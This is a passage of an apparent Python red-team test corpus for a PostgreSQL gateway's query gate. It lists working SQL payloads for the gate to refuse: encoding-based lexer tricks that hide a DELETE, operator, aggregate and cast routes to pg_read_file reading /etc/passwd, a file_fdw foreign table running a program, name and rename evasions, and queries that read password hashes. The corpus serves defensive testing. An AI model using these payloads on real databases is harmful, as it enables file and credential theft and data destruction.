"""Red-team corpus for GitHub issue 8, "gate soundness".

Attacker model: the gateway logs in upstream as a SUPERUSER, so nothing but
pgjit's gate stands between the client and the database. Every attack here was
confirmed to take effect on a bare PostgreSQL 15 (tests/redteam/test_redteam.py
``test_attack_works_on_bare_postgres``) and must be refused through the gateway
(``test_attack_refused_through_gateway``).

An attack is plain data:

``name``       unique id (used in test ids)
``cls``        the class of issue 8 it belongs to (1-7, see CLASSES)
``setup``      SQL run directly on the bare server, as the superuser, in a fresh
               copy of the template database (TEMPLATE_SQL) before the attack:
               what a DBA made earlier, never sent through the gateway
``attack``     the statements the attacker sends, one by one, in order. ``str``
               or ``bytes`` (bytes are sent exactly as they are: the lexer
               attacks); the sentinel RECONNECT opens a new session
``startup``    startup-packet parameters of the attacker's (first) session
               (``client_encoding``, ``options``, any setting)
``effect``     SQL run directly on the database after the attack: true iff the
               attack took effect
``leak``       alternatively, a marker that shows up in the data returned to
               the attacker iff the attack took effect (file contents, server
               configuration)
``policies``   the policies it must be refused under: always ``default``;
               ``guardrails`` when that policy forbids what the attack achieves
``teardown``   SQL run on the server after the attack (cluster-wide state:
               role settings, files written)

Placeholders in setup, attack and effect: @PORT@ @USER@ @PASSWORD@ @DB@ (the
upstream superuser's credentials and the attack database).

Not in the corpus, because they could not be made to work on PostgreSQL 15 as
a superuser (each was tried, or its signature rules it out):

* UHC and JOHAB as client encodings: no UHC character has 0x5C as its second
  byte (the server rejects 0x..5C), and PostgreSQL's JOHAB verifier only
  accepts second bytes 0xA1-0xFE, so neither can swallow a backslash or quote.
* CREATE TYPE (INPUT/OUTPUT/RECEIVE/SEND/TYPMOD/ANALYZE/SUBSCRIPT), CREATE TEXT
  SEARCH PARSER/TEMPLATE, CREATE TRANSFORM, CREATE ACCESS METHOD, ALTER
  OPERATOR ... SET (RESTRICT/JOIN), CREATE CONVERSION: they only take functions
  of fixed internal/cstring signatures, and no built-in or contrib function that
  reads files, writes tables or runs SQL has one of those signatures.
* COMBINEFUNC: only runs in parallel aggregation and needs a (stype, stype)
  -> stype function; no dangerous built-in has that shape.
* MERGE ... WHEN NOT MATCHED BY SOURCE: PostgreSQL 17+.
* RLS policies calling a function: a superuser bypasses row-level security, so
  the policy's function never runs for the attacker.
* pg_cron (cron.schedule): not installable here (not packaged for this server,
  and it needs shared_preload_libraries).
* CREATE FUNCTION ... SET client_encoding: the setting is restored when the
  function returns, so it never reaches the lexer of the next statement.
"""

from __future__ import annotations

from dataclasses import dataclass, field

RECONNECT = "\\reconnect"

CLASSES = {
    1: "lexer divergence (client-only encodings, standard_conforming_strings off)",
    2: "functions reached without their name (operators, aggregates, casts, renames, handlers, internal)",
    3: "names (database-qualified, quoted, renamed schemas and tables, inheritance, partitions)",
    4: "catalog views and functions exposing server files and configuration",
    5: "extension functions that run SQL or act on tables, files and programs named in strings",
    6: "unbounded writes",
    7: "code already in the database (made by a DBA)",
}

BOTH = ("default", "guardrails")
DEFAULT_ONLY = ("default",)


@dataclass(frozen=True)
class RedTeamAttack:
    name: str
    cls: int
    attack: tuple[str | bytes, ...]
    effect: str | None = None
    leak: str | None = None
    setup: str = ""
    startup: dict[str, str] = field(default_factory=dict)
    policies: tuple[str, ...] = BOTH
    teardown: str = ""
    note: str = ""
    serial: bool = False  # touches cluster-wide state (ALTER ROLE ALL, pg_ident.conf, data-directory files)


# The database every attack starts from (copied fresh for each run).
TEMPLATE_SQL = r"""
create extension if not exists tablefunc;
create extension if not exists refint;
create extension if not exists dblink;
create extension if not exists postgres_fdw;
create extension if not exists file_fdw;
create extension if not exists xml2;
create extension if not exists adminpack;
create extension if not exists pg_surgery;
create extension if not exists pageinspect;
create extension if not exists lo;
create table public.victim(id int primary key, v text);
insert into public.victim values (1, 'a'), (2, 'b'), (3, 'c');
create table public.ledger(id int primary key, v text);
insert into public.ledger values (1, 'a'), (2, 'b'), (3, 'c');
create schema rt_check;
create table rt_check.meta(name text primary key, rel oid, digest text);
create function rt_check.digest(r oid) returns text language plpgsql as $f$
declare d text;
begin
  if not exists (select 1 from pg_catalog.pg_class where oid = r) then return null; end if;
  execute pg_catalog.format('select pg_catalog.md5(coalesce(pg_catalog.string_agg(t::text, %L order by t::text), %L)) from %s t',
                            ',', '', r::regclass) into d;
  return d;
end $f$;
-- Run by the harness after each attack's setup: what "unchanged" means.
create function rt_check.snapshot() returns void language sql as $f$
  delete from rt_check.meta;
  insert into rt_check.meta select n, c.oid, rt_check.digest(c.oid)
    from (values ('victim'), ('ledger')) v(n) join pg_catalog.pg_class c on c.oid = pg_catalog.to_regclass('public.' || n);
$f$;
-- True iff the table (followed by oid, through renames) is gone or its rows differ.
create function rt_check.changed(n text) returns boolean language sql as $f$
  select rt_check.digest(rel) is distinct from digest from rt_check.meta where name = n;
$f$;
"""

VICTIM = "select rt_check.changed('victim')"
LEDGER = "select rt_check.changed('ledger')"
PASSWD = "root:x:0:0"
PASSWD_HEX = "726f6f743a783a303a30"  # root:x:0:0 as bytea hex
LO_SETUP = "select pg_catalog.lo_from_bytea(424242, 'kept')"
LO_GONE = "select not exists (select 1 from pg_largeobject_metadata where oid = 424242)"
LO_MADE = "select exists (select 1 from pg_largeobject_metadata where oid <> 424242)"
CONNSTR = "host=127.0.0.1 port=@PORT@ dbname=@DB@ user=@USER@ password=@PASSWORD@"
LOOP_SERVER = (
    "CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '@PORT@', dbname '@DB@')",
    "CREATE USER MAPPING FOR CURRENT_USER SERVER loop OPTIONS (user '@USER@', password '@PASSWORD@')",
)
RESET_ROLES = "alter role @USER@ reset all; alter role @USER@ in database @DB@ reset all"
RESET_ALL_ROLES = "alter role all reset all"

ATTACKS: list[RedTeamAttack] = []


def add(*a: RedTeamAttack) -> None:
    ATTACKS.extend(a)


# ============================================================================
# 1. Lexer divergence
# ============================================================================
# The payload is one statement that pgjit, reading UTF-8 with
# standard_conforming_strings on, sees as a harmless SELECT of a string
# constant; the server, reading it in the attacker's client encoding (or with
# backslash escapes in plain strings), sees a data-modifying CTE that empties
# public.victim. One statement, so it works in the extended protocol too.
#
#   pgjit:  WITH x AS (SELECT E'<c>\' ), d AS (DELETE ...) SELECT 1 --') SELECT 1
#   server: WITH x AS (SELECT E'<c\>' ), d AS (DELETE ...) SELECT 1 --') SELECT 1
#                                    ^^^ one multibyte character: the backslash is its 2nd byte
#
# <c> is valid UTF-8 whose last byte is a lead byte of the client encoding:
# U+0095 (C2 95) for SJIS / SHIFT_JIS_2004 (95 5C = "表"), U+4E25 "严" (E4 B8 A5)
# for BIG5 (A5 5C = "功"), U+4E15 "丕" (E4 B8 95) for GBK / GB18030.

ENC_PREFIX = {"sjis": b"\xc2\x95", "big5": "严".encode(), "gbk": "丕".encode()}


def enc_payload(family: str) -> bytes:
    return (b"WITH x AS (SELECT E'" + ENC_PREFIX[family]
            + b"\\' ), d AS (DELETE FROM victim RETURNING 1) SELECT 1 --') SELECT 1")


#   pgjit (on):   'a\'  + newline + ' ), d AS (...) SELECT 1 /*'  + newline + ) SELECT 1 --*/
#   server (off): 'a\'<newline>'  then  ), d AS (...) SELECT 1  /* ... */
SCS_PAYLOAD = "WITH x AS (SELECT 'a\\'\n' ), d AS (DELETE FROM victim RETURNING 1) SELECT 1 /*'\n) SELECT 1 --*/"

# Spellings PostgreSQL accepts (it drops every non-alphanumeric character and
# folds case), with the family whose payload they need.
ENC_SPELLINGS = [
    ("SJIS", "sjis"), ("S.JIS", "sjis"), ("Shift JIS", "sjis"), ("shift-jis", "sjis"),
    ("MS-KANJI", "sjis"), ("win 932", "sjis"), ("Windows_932", "sjis"),
    ("shift_jis_2004", "sjis"), ("Shift JIS 2004", "sjis"),
    ("BIG5", "big5"), ("Big-5", "big5"), ("win950", "big5"), ("Windows 950", "big5"),
    ("GBK", "gbk"), ("Win-936", "gbk"), ("windows936", "gbk"),
    ("GB18030", "gbk"), ("gb 18030", "gbk"), ("GB-18030", "gbk"),
]
for _sp, _fam in ENC_SPELLINGS:
    add(RedTeamAttack("enc-set-" + _sp.lower().replace(" ", "+"), 1,
                      (f"SET client_encoding = '{_sp}'", enc_payload(_fam)), effect=VICTIM))


def enc(name: str, stmts: tuple, family: str = "sjis", **kw) -> RedTeamAttack:
    """A route to a client-only encoding, then the payload (or `stmts` with PAYLOAD in it)."""
    p = enc_payload(family)
    if "PAYLOAD" in stmts:
        body = tuple(p if s == "PAYLOAD" else s for s in stmts)
    else:
        body = stmts + (p,)
    return RedTeamAttack(f"enc-{name}", 1, body, effect=VICTIM, **kw)


DBA_SETTINGS_VIEW = "create view public.app_settings as select name, setting from pg_catalog.pg_settings"
DBA_SETTINGS_RULE = (
    "create table public.setting_requests(name text, value text);"
    "create rule apply_setting as on insert to public.setting_requests"
    " do also select pg_catalog.set_config(new.name, new.value, false)"
)
DBA_SETTINGS_FUNC = (
    "create function public.set_pref(n text, v text) returns text language sql"
    " as $$ select pg_catalog.set_config(n, v, false) $$"
)
DBA_SETTINGS_TRIGGER = (
    "create table public.prefs(name text, value text);"
    "create function public.prefs_apply() returns trigger language plpgsql as"
    " $$ begin perform pg_catalog.set_config(new.name, new.value, false); return new; end $$;"
    "create trigger prefs_apply after insert on public.prefs for each row execute function public.prefs_apply()"
)

add(
    enc("set-unquoted-ident", ("SET client_encoding TO sjis",)),
    enc("set-quoted-ident", ('SET client_encoding TO "Big5"',), "big5"),
    enc("set-quoted-name-upper", ('SET "client_encoding" = \'GBK\'',), "gbk"),
    enc("set-upper-case", ("SET CLIENT_ENCODING TO 'SHIFT_JIS'",)),
    enc("set-session", ("SET SESSION client_encoding = 'GBK'",), "gbk"),
    enc("set-local", ("BEGIN", "SET LOCAL client_encoding = 'win950'", "PAYLOAD", "COMMIT"), "big5"),
    enc("set-names", ("SET NAMES 'SJIS'",)),
    enc("set-dollar-quoted", ("SET client_encoding = $$sjis$$",)),
    enc("set-unicode-escape-string", ("SET client_encoding = U&'\\0053JIS'",)),
    enc("set-e-string-hex", ("SET client_encoding = E'\\x53JIS'",)),
    enc("set-config", ("SELECT set_config('client_encoding', 'SJIS', false)",)),
    enc("set-config-qualified-upper", ("SELECT pg_catalog.set_config('CLIENT_ENCODING', 'big5', false)",), "big5"),
    enc("set-config-computed-value", ("SELECT set_config('client_encoding', 'S' || 'JIS', false)",)),
    enc("set-config-computed-name", ("SELECT set_config('client_' || 'encoding', 'gbk', false)",), "gbk"),
    enc("set-config-local", ("BEGIN", "SELECT set_config('client_encoding', 'sjis', true)", "PAYLOAD", "COMMIT")),
    enc("set-config-name-from-pg-settings",
        ("SELECT set_config(name, 'sjis', false) FROM pg_settings WHERE name LIKE 'client_enc%'",)),
    enc("set-config-in-from", ("SELECT * FROM set_config('client_encoding', 'BIG5', false)",), "big5"),
    enc("set-config-in-values", ("VALUES (set_config('client_encoding', 'gb18030', false))",), "gbk"),
    enc("set-config-value-subquery", ("SELECT set_config('client_encoding', (SELECT 'sj' || 'is'), false)",)),
    enc("set-config-in-cte", ("WITH s AS (SELECT set_config('client_encoding', 'sjis', false)) SELECT * FROM s",)),
    enc("set-config-copy-to-stdout", ("COPY (SELECT set_config('client_encoding', 'sjis', false)) TO STDOUT",)),
    enc("set-config-explain-analyze", ("EXPLAIN ANALYZE SELECT set_config('client_encoding', 'gbk', false)",), "gbk"),
    enc("set-config-cursor", ("BEGIN", "DECLARE c CURSOR FOR SELECT set_config('client_encoding', 'sjis', false)",
                              "FETCH c", "PAYLOAD", "COMMIT")),
    enc("set-config-prepared", ("PREPARE setp(text, text) AS SELECT set_config($1, $2, false)",
                                "EXECUTE setp('client_encoding', 'sjis')")),
    enc("startup-param", (), startup={"client_encoding": "Shift JIS"}),
    enc("startup-options-c", (), "big5", startup={"options": "-c client_encoding=big5"}),
    enc("startup-options-dashdash", (), "gbk", startup={"options": "--client-encoding=GBK"}),
    enc("alter-role-set", ("ALTER ROLE CURRENT_USER SET client_encoding = 'sjis'", RECONNECT), teardown=RESET_ROLES),
    enc("alter-database-set", ("ALTER DATABASE @DB@ SET client_encoding = 'big5'", RECONNECT), "big5"),
    enc("alter-role-all-set", ("ALTER ROLE ALL SET client_encoding = 'gbk'", RECONNECT), "gbk", teardown=RESET_ALL_ROLES,
        serial=True),
    enc("alter-role-in-database-set", ("ALTER ROLE @USER@ IN DATABASE @DB@ SET client_encoding TO 'MS-KANJI'", RECONNECT),
        teardown=RESET_ROLES),
    enc("update-pg-settings", ("UPDATE pg_settings SET setting = 'sjis' WHERE name = 'client_encoding'",)),
    enc("update-pg-settings-qualified-alias",
        ("UPDATE pg_catalog.pg_settings AS s SET setting = 'big5' WHERE s.name = 'client_encoding'",), "big5"),
    enc("dba-view-over-pg-settings", ("UPDATE app_settings SET setting = 'sjis' WHERE name = 'client_encoding'",),
        setup=DBA_SETTINGS_VIEW),
    enc("dba-rule-set-config", ("INSERT INTO setting_requests VALUES ('client_encoding', 'sjis')",),
        setup=DBA_SETTINGS_RULE),
    enc("dba-function-set-config", ("SELECT set_pref('client_encoding', 'sjis')",), setup=DBA_SETTINGS_FUNC),
    enc("dba-trigger-set-config", ("INSERT INTO prefs VALUES ('client_encoding', 'gbk')",), "gbk",
        setup=DBA_SETTINGS_TRIGGER),
    enc("do-block-perform", ("DO $$ BEGIN PERFORM set_config('client_encoding', 'sjis', false); END $$",)),
    enc("dba-database-default", (), setup="alter database @DB@ set client_encoding = 'sjis'",
        note="a DBA set the database's default client_encoding; the attacker only sends the payload"),
    enc("dba-role-default", (), "big5", setup="alter role @USER@ set client_encoding = 'big5'", teardown=RESET_ROLES,
        note="a DBA set the upstream role's default client_encoding"),
)


def scs(name: str, stmts: tuple, **kw) -> RedTeamAttack:
    body = tuple(SCS_PAYLOAD if s == "PAYLOAD" else s for s in stmts) if "PAYLOAD" in stmts else stmts + (SCS_PAYLOAD,)
    return RedTeamAttack(f"scs-{name}", 1, body, effect=VICTIM, **kw)


add(
    scs("set-off", ("SET standard_conforming_strings = off",)),
    scs("set-of-prefix", ("SET standard_conforming_strings TO 'of'",)),
    scs("set-false", ("SET standard_conforming_strings = false",)),
    scs("set-zero", ("SET standard_conforming_strings = 0",)),
    scs("set-no-upper", ("SET STANDARD_CONFORMING_STRINGS TO 'NO'",)),
    scs("set-quoted-ident-f", ('SET "standard_conforming_strings" = "f"',)),
    scs("set-session-n", ("SET SESSION standard_conforming_strings = 'n'",)),
    scs("set-local", ("BEGIN", "SET LOCAL standard_conforming_strings = off", "PAYLOAD", "COMMIT")),
    scs("set-config-upper-name", ("SELECT set_config('STANDARD_CONFORMING_STRINGS', 'off', false)",)),
    scs("set-config-computed-name", ("SELECT set_config('standard_' || 'conforming_strings', 'off', false)",)),
    scs("set-config-computed-value", ("SELECT set_config('standard_conforming_strings', 'of' || 'f', false)",)),
    scs("set-config-local", ("BEGIN", "SELECT set_config('standard_conforming_strings', 'false', true)", "PAYLOAD", "COMMIT")),
    scs("set-config-in-from", ("SELECT * FROM pg_catalog.set_config('standard_conforming_strings', '0', false)",)),
    scs("set-config-prepared", ("PREPARE scsp(text) AS SELECT set_config('standard_conforming_strings', $1, false)",
                                "EXECUTE scsp('off')")),
    scs("update-pg-settings", ("UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",)),
    scs("update-pg-settings-like", ("UPDATE pg_settings SET setting = 'off' WHERE name LIKE 'standard_conf%'",)),
    scs("dba-view-over-pg-settings",
        ("UPDATE app_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",), setup=DBA_SETTINGS_VIEW),
    scs("dba-rule-set-config", ("INSERT INTO setting_requests VALUES ('standard_conforming_strings', 'off')",),
        setup=DBA_SETTINGS_RULE),
    scs("dba-function-set-config", ("SELECT set_pref('standard_conforming_strings', 'off')",), setup=DBA_SETTINGS_FUNC),
    scs("do-block-perform", ("DO $$ BEGIN PERFORM set_config('standard_conforming_strings', 'off', false); END $$",)),
    scs("startup-param", (), startup={"standard_conforming_strings": "off"}),
    scs("startup-options-c", (), startup={"options": "-c standard_conforming_strings=off"}),
    scs("startup-options-dashdash", (), startup={"options": "--standard-conforming-strings=0"}),
    scs("alter-role-set", ("ALTER ROLE CURRENT_USER SET standard_conforming_strings = off", RECONNECT),
        teardown=RESET_ROLES),
    scs("alter-database-set", ("ALTER DATABASE @DB@ SET standard_conforming_strings TO off", RECONNECT)),
    scs("dba-database-default", (), setup="alter database @DB@ set standard_conforming_strings = off",
        note="a DBA set the database's default; the attacker only sends the payload"),
)

# ============================================================================
# 2. Functions reached without their name
# ============================================================================
add(
    RedTeamAttack("operator-prefix-pg-read-file", 2, (
        "CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)",
        "SELECT ### '/etc/passwd'"), leak=PASSWD),
    RedTeamAttack("operator-procedure-keyword-qualified", 2, (
        "CREATE OPERATOR public.@@@ (PROCEDURE = pg_catalog.pg_read_file, RIGHTARG = text)",
        "SELECT OPERATOR(public.@@@) '/etc/passwd'"), leak=PASSWD),
    RedTeamAttack("operator-pg-read-binary-file", 2, (
        "CREATE OPERATOR ~~~~ (FUNCTION = pg_read_binary_file, RIGHTARG = text)",
        "SELECT ~~~~ '/etc/passwd'"), leak=PASSWD_HEX),
    RedTeamAttack("operator-pg-ls-dir", 2, (
        "CREATE OPERATOR !!! (FUNCTION = pg_ls_dir, RIGHTARG = text)",
        "SELECT !!! '.'"), leak="PG_VERSION"),
    RedTeamAttack("operator-binary-lo-import", 2, (
        "CREATE OPERATOR <<< (FUNCTION = lo_import, LEFTARG = text, RIGHTARG = oid)",
        "SELECT '/etc/passwd' <<< 777777::oid"), effect=LO_MADE),
    RedTeamAttack("operator-binary-lo-from-bytea", 2, (
        "CREATE OPERATOR @#@ (FUNCTION = lo_from_bytea, LEFTARG = oid, RIGHTARG = bytea)",
        "SELECT 0::oid @#@ '\\x00'::bytea"), effect=LO_MADE),
    RedTeamAttack("operator-in-where-clause", 2, (
        "CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)",
        "SELECT v FROM victim WHERE v <> (### '/etc/passwd') AND id = 1 UNION ALL SELECT ### '/etc/passwd'"),
        leak=PASSWD),
    RedTeamAttack("aggregate-finalfunc-pg-read-file", 2, (
        "CREATE AGGREGATE readall(text) (SFUNC = textcat, STYPE = text, INITCOND = '', FINALFUNC = pg_read_file)",
        "SELECT readall('/etc/passwd')"), leak=PASSWD),
    RedTeamAttack("aggregate-sfunc-pg-read-file-zero-arg", 2, (
        "CREATE AGGREGATE readstate(*) (SFUNC = pg_read_file, STYPE = text, INITCOND = '/etc/passwd')",
        "SELECT readstate(*) FROM (VALUES (1)) v(x)"), leak=PASSWD),
    RedTeamAttack("aggregate-old-syntax-basetype", 2, (
        "CREATE AGGREGATE readold (BASETYPE = text, SFUNC = textcat, STYPE = text, FINALFUNC = pg_read_file, INITCOND = '')",
        "SELECT readold(p) FROM (VALUES ('/etc/passwd')) v(p)"), leak=PASSWD),
    RedTeamAttack("aggregate-sfunc-lo-from-bytea", 2, (
        "CREATE AGGREGATE lomake(bytea) (SFUNC = lo_from_bytea, STYPE = oid, INITCOND = '0')",
        "SELECT lomake('\\x01'::bytea)"), effect=LO_MADE),
    RedTeamAttack("aggregate-msfunc-mfinalfunc-window", 2, (
        "CREATE AGGREGATE readmov(text) (SFUNC = textcat, STYPE = text, INITCOND = '',"
        " MSFUNC = textcat, MINVFUNC = textcat, MSTYPE = text, MINITCOND = '', MFINALFUNC = pg_read_file)",
        "SELECT readmov(p) OVER (ROWS BETWEEN CURRENT ROW AND CURRENT ROW) FROM (VALUES ('/etc/passwd')) v(p)"),
        leak=PASSWD),
    RedTeamAttack("cast-text-bytea-pg-read-binary-file", 2, (
        "CREATE CAST (text AS bytea) WITH FUNCTION pg_read_binary_file(text)",
        "SELECT '/etc/passwd'::text::bytea"), leak=PASSWD_HEX),
    RedTeamAttack("cast-varchar-oid-lo-import", 2, (
        "CREATE CAST (varchar AS oid) WITH FUNCTION lo_import(text)",
        "SELECT CAST('/etc/passwd'::varchar AS oid)"), effect=LO_MADE),
    RedTeamAttack("cast-implicit-text-bytea", 2, (
        "CREATE CAST (text AS bytea) WITH FUNCTION pg_read_binary_file(text) AS IMPLICIT",
        "SELECT length(p) > 0, encode(p, 'hex') FROM (SELECT '/etc/passwd'::text::bytea AS p) s"), leak=PASSWD_HEX),
    RedTeamAttack("alter-function-rename-pg-read-file", 2, (
        "ALTER FUNCTION pg_read_file(text) RENAME TO harmless",
        "SELECT harmless('/etc/passwd')"), leak=PASSWD),
    RedTeamAttack("alter-routine-rename-pg-read-file", 2, (
        "ALTER ROUTINE pg_catalog.pg_read_file(text) RENAME TO innocuous",
        "SELECT pg_catalog.innocuous('/etc/passwd')"), leak=PASSWD),
    RedTeamAttack("alter-function-rename-pg-ls-dir", 2, (
        "ALTER FUNCTION pg_catalog.pg_ls_dir(text) RENAME TO list_things",
        "SELECT list_things('.')"), leak="PG_VERSION"),
    RedTeamAttack("alter-function-rename-lo-import", 2, (
        "ALTER FUNCTION lo_import(text) RENAME TO to_oid",
        "SELECT to_oid('/etc/passwd')"), effect=LO_MADE),
    RedTeamAttack("alter-function-set-schema-public", 2, (
        "ALTER FUNCTION pg_read_file(text) SET SCHEMA public",
        "SELECT public.pg_read_file('/etc/passwd')"), leak=PASSWD),
    RedTeamAttack("alter-function-set-schema-then-rename", 2, (
        "CREATE SCHEMA util",
        "ALTER FUNCTION pg_read_binary_file(text) SET SCHEMA util",
        "ALTER FUNCTION util.pg_read_binary_file(text) RENAME TO grab",
        "SELECT util.grab('/etc/passwd')"), leak=PASSWD_HEX),
    RedTeamAttack("create-function-language-internal", 2, (
        "CREATE FUNCTION readit(text) RETURNS text LANGUAGE internal STRICT AS 'pg_read_file_all'",
        "SELECT readit('/etc/passwd')"), leak=PASSWD),
    RedTeamAttack("create-function-language-internal-off-len", 2, (
        "CREATE FUNCTION chunk(text, bigint, bigint) RETURNS text LANGUAGE internal STRICT AS 'pg_read_file_off_len'",
        "SELECT chunk('/etc/passwd', 0, 100)"), leak=PASSWD),
    RedTeamAttack("create-function-language-c-adminpack", 2, (
        "CREATE FUNCTION put(text, text, boolean) RETURNS bigint LANGUAGE c STRICT AS '$libdir/adminpack', 'pg_file_write_v1_1'",
        "SELECT put('rt_pwned_c', 'x', false)"),
        effect="select (pg_catalog.pg_stat_file('rt_pwned_c', true)).size is not null",
        teardown="select pg_catalog.pg_file_unlink('rt_pwned_c')", serial=True),
    RedTeamAttack("create-language-alias-do-block", 2, (
        "CREATE LANGUAGE plx HANDLER plpgsql_call_handler INLINE plpgsql_inline_handler VALIDATOR plpgsql_validator",
        "DO LANGUAGE plx $$ BEGIN DELETE FROM victim; END $$"), effect=VICTIM),
    RedTeamAttack("fdw-handler-file-fdw-renamed", 2, (
        "CREATE FOREIGN DATA WRAPPER innocent HANDLER file_fdw_handler",
        "CREATE SERVER s_innocent FOREIGN DATA WRAPPER innocent",
        "CREATE FOREIGN TABLE notes (line text) SERVER s_innocent OPTIONS (filename '/etc/passwd', format 'text')",
        "SELECT * FROM notes"), leak=PASSWD),
    RedTeamAttack("fdw-handler-file-fdw-program", 2, (
        "CREATE FOREIGN DATA WRAPPER innocent2 HANDLER file_fdw_handler",
        "CREATE SERVER s_innocent2 FOREIGN DATA WRAPPER innocent2",
        "CREATE FOREIGN TABLE report (line text) SERVER s_innocent2 OPTIONS (program 'id', format 'text')",
        "SELECT * FROM report"), leak="uid="),
    RedTeamAttack("operator-class-hash-support-lo-unlink", 2, (
        "CREATE OPERATOR CLASS oid_unlink FOR TYPE oid USING hash AS OPERATOR 1 = , FUNCTION 1 lo_unlink(oid)",
        "CREATE TABLE refs (o oid)",
        "INSERT INTO refs VALUES (424242)",
        "CREATE INDEX refs_o ON refs USING hash (o oid_unlink)"), setup=LO_SETUP, effect=LO_GONE),
)

# ============================================================================
# 3. Names
# ============================================================================
add(
    RedTeamAttack("db-qualified-delete", 3, ("DELETE FROM @DB@.public.victim WHERE id = 1",), effect=VICTIM),
    RedTeamAttack("db-qualified-quoted-update", 3, ('UPDATE "@DB@"."public"."victim" SET v = \'x\' WHERE id = 1',),
                  effect=VICTIM),
    RedTeamAttack("db-qualified-insert", 3, ("INSERT INTO @DB@.public.victim VALUES (9, 'x')",), effect=VICTIM),
    RedTeamAttack("quoted-schema-table", 3, ('DELETE FROM "public"."victim" WHERE id = 1',), effect=VICTIM),
    RedTeamAttack("upper-case-names", 3, ("DELETE FROM PUBLIC.VICTIM WHERE ID = 1",), effect=VICTIM),
    RedTeamAttack("unicode-escaped-table", 3, ('DELETE FROM U&"\\0076ictim" WHERE id = 1',), effect=VICTIM),
    RedTeamAttack("unicode-escaped-uescape", 3, ('UPDATE public.U&"v!0069ctim" UESCAPE \'!\' SET v = \'x\' WHERE id = 2',),
                  effect=VICTIM),
    RedTeamAttack("comments-between-name-parts", 3, ("DELETE FROM public/**/./* x */victim WHERE id = 1",), effect=VICTIM),
    RedTeamAttack("only-and-star", 3, ("UPDATE ONLY public.victim SET v = 'x' WHERE id = 1",), effect=VICTIM),
    RedTeamAttack("cte-shadowing-target", 3, ("WITH victim AS (SELECT 1 AS id) DELETE FROM victim WHERE id = 1",),
                  effect=VICTIM),
    RedTeamAttack("alias-named-public", 3, ("DELETE FROM victim AS public WHERE public.id = 1",), effect=VICTIM),
    RedTeamAttack("search-path-then-bare-name", 3, ("SET search_path = pg_catalog, public", "DELETE FROM victim WHERE id = 3"),
                  effect=VICTIM),
    RedTeamAttack("rename-schema-public", 3, ("ALTER SCHEMA public RENAME TO x", "DELETE FROM x.victim WHERE id = 1"),
                  effect=VICTIM),
    RedTeamAttack("rename-schema-unicode-escaped", 3, (
        'ALTER SCHEMA U&"\\0070ublic" RENAME TO y', "UPDATE y.victim SET v = 'x' WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("rename-table", 3, ("ALTER TABLE victim RENAME TO v2", "DELETE FROM v2 WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("table-set-schema", 3, (
        "CREATE SCHEMA s", "ALTER TABLE public.victim SET SCHEMA s", "DELETE FROM s.victim WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("table-set-schema-search-path", 3, (
        "CREATE SCHEMA s2", "ALTER TABLE victim SET SCHEMA s2", "SET search_path = s2",
        "DELETE FROM victim WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("rename-table-and-schema", 3, (
        "ALTER TABLE victim RENAME TO harmless", "ALTER SCHEMA public RENAME TO scratch",
        "UPDATE scratch.harmless SET v = 'x' WHERE id = 2"), effect=VICTIM),
    RedTeamAttack("drop-schema-public-cascade", 3, ("DROP SCHEMA public CASCADE",), effect=VICTIM),
    RedTeamAttack("drop-schema-quoted-cascade", 3, ('DROP SCHEMA IF EXISTS "public" CASCADE',), effect=VICTIM),
    RedTeamAttack("inherit-then-delete-parent", 3, (
        "CREATE TABLE things (id int, v text)", "ALTER TABLE victim INHERIT things",
        "DELETE FROM things WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("attach-partition-then-delete", 3, (
        "CREATE TABLE parts (id int NOT NULL, v text) PARTITION BY RANGE (id)",
        "ALTER TABLE parts ATTACH PARTITION victim FOR VALUES FROM (0) TO (1000)",
        "DELETE FROM parts WHERE id = 2"), effect=VICTIM),
    RedTeamAttack("attacker-view-in-other-schema", 3, (
        "CREATE SCHEMA h", "CREATE VIEW h.items AS SELECT * FROM public.victim",
        "DELETE FROM h.items WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("pg-authid-db-qualified", 3, ("SELECT rolpassword FROM @DB@.pg_catalog.pg_authid WHERE rolpassword IS NOT NULL",),
                  leak="SCRAM-SHA-256$", policies=DEFAULT_ONLY),
    RedTeamAttack("pg-authid-quoted", 3, ('SELECT rolpassword FROM "pg_catalog"."pg_authid"',), leak="SCRAM-SHA-256$",
                  policies=DEFAULT_ONLY),
    RedTeamAttack("pg-shadow-unicode", 3, ('SELECT passwd FROM U&"pg_\\0073hadow"',), leak="SCRAM-SHA-256$",
                  policies=DEFAULT_ONLY),
    RedTeamAttack("pg-user-mappings-password", 3, ("SELECT umoptions FROM pg_catalog.pg_user_mappings",),
                  setup="create server ums foreign data wrapper postgres_fdw;"
                        " create user mapping for public server ums options (user 'x', password 'hunter2')",
                  leak="hunter2", policies=DEFAULT_ONLY),
)

# ============================================================================
# 4. Catalog views and functions exposing server files and configuration
# ============================================================================
IDENT_SETUP = (
    "do $$ begin execute pg_catalog.format('copy (select %L) to %L', 'rtmap alice @USER@', "
    "pg_catalog.current_setting('ident_file')); end $$"
)
IDENT_TEARDOWN = (
    "do $$ begin execute pg_catalog.format('copy (select %L) to %L', '# pg_ident.conf', "
    "pg_catalog.current_setting('ident_file')); end $$"
)
add(
    RedTeamAttack("pg-hba-file-rules", 4, ("SELECT * FROM pg_hba_file_rules",), leak="scram-sha-256"),
    RedTeamAttack("pg-hba-file-rules-quoted-qualified", 4, ('SELECT auth_method FROM "pg_catalog"."pg_hba_file_rules"',),
                  leak="scram-sha-256"),
    RedTeamAttack("pg-hba-file-rules-function", 4, ("SELECT * FROM pg_catalog.pg_hba_file_rules()",), leak="scram-sha-256"),
    RedTeamAttack("pg-hba-file-rules-table-stmt", 4, ("TABLE pg_hba_file_rules",), leak="scram-sha-256"),
    RedTeamAttack("pg-hba-file-rules-copy-to-stdout", 4, ("COPY (SELECT * FROM pg_hba_file_rules) TO STDOUT",),
                  leak="scram-sha-256"),
    RedTeamAttack("pg-hba-file-rules-scalar-subquery", 4, (
        "SELECT (SELECT string_agg(auth_method, ',') FROM pg_hba_file_rules) AS x",), leak="scram-sha-256"),
